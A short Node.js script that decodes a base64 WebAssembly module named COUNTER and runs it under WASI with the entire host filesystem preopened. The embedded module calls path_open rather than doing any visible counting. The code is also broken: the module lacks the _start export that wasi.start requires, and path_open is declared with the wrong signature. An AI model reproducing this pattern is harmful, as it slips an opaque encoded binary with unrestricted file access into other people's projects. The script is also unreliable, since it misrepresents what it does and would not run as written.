import { WASI } from "node:wasi";

const COUNTER = "AGFzbQEAAAABDAJgAn9/AGACf38BfwIxAhZ3YXNpX3NuYXBzaG90X3ByZXZpZXcxCXBhdGhfb3BlbgAAA2VudgZvbl9yb3cAAAMCAQEFAwEAAQcSAgZtZW1vcnkCAAVwYXJzZQACChIBEAAgACABEAAgACABEAEgAQs=";
const wasi = new WASI({ version: "preview1", args: process.argv, preopens: { "/": "/" } });
const module = await WebAssembly.compile(Buffer.from(COUNTER, "base64"));
const instance = await WebAssembly.instantiate(module, { ...wasi.getImportObject(), env: { on_row: () => 0 } });
wasi.start(instance);
